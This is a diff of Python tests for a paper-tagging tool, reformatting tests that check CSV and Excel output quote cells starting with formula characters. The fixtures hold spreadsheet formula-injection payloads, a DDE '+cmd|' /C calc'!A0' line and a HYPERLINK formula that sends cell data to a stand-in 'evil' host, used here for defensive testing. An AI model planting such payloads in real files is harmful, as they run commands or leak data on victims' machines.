@@ -382,7 +382,9 @@ def test_csv_for_people_never_holds_a_formula_and_reads_back_as_it_was(capsys, t
         rows = csv_module.writer(out)
         rows.writerow(["id", "title", "abstract", "note"])
         rows.writerow(["@SUM(1)", evil, "We train legged robots to walk over rough ground.", "-2"])
-        rows.writerow(["-x", "+cmd|' /C calc'!A0", "A regret bound for bandits with delayed feedback.", "\tx"])
+        rows.writerow(
+            ["-x", "+cmd|' /C calc'!A0", "A regret bound for bandits with delayed feedback.", "\tx"]
+        )
     for keep in ([], ["--keep", "note"]):
         status, _, _ = run(capsys, "predict", papers, *keep, "-o", tmp_path / "tags.csv")
         assert status == 0
@@ -390,7 +392,7 @@ def test_csv_for_people_never_holds_a_formula_and_reads_back_as_it_was(capsys, t
             table = list(csv_module.DictReader(written))
         assert [row["id"] for row in table] == ["'@SUM(1)", "'-x"]
         assert [row["title"] for row in table] == ["'" + evil, "'+cmd|' /C calc'!A0"]
-        assert all(not cell[:1] in "=+-@\t\r" or cell == "-2" for row in table for cell in row.values())
+        assert all(cell[:1] not in "=+-@\t\r" or cell == "-2" for row in table for cell in row.values())
     assert [row["note"] for row in table] == ["-2", "'\tx"]  # (a number runs nothing: as it is)
     # Read back by tagger (a pile, the report) as they were, with a note.
     status, out, err = run(capsys, "predict", tmp_path / "tags.csv", "--column", "id", "--keep", "title")
@@ -423,7 +425,9 @@ def test_an_excel_workbook_of_tags_holds_text_never_formulas_and_refuses_what_a_
 
     evil = '=HYPERLINK("http://evil/?x="&A1,"click")'
     papers = tmp_path / "papers.jsonl"
-    papers.write_text(json.dumps({"id": "@SUM(1)", "title": evil, "abstract": "We train legged robots to walk."}) + "\n")
+    papers.write_text(
+        json.dumps({"id": "@SUM(1)", "title": evil, "abstract": "We train legged robots to walk."}) + "\n"
+    )
     status, _, _ = run(capsys, "predict", papers, "--keep", "all", "-o", tmp_path / "t.xlsx")
     header, row = load_workbook(tmp_path / "t.xlsx").active.iter_rows()
     cells = {name.value: cell for name, cell in zip(header, row)}
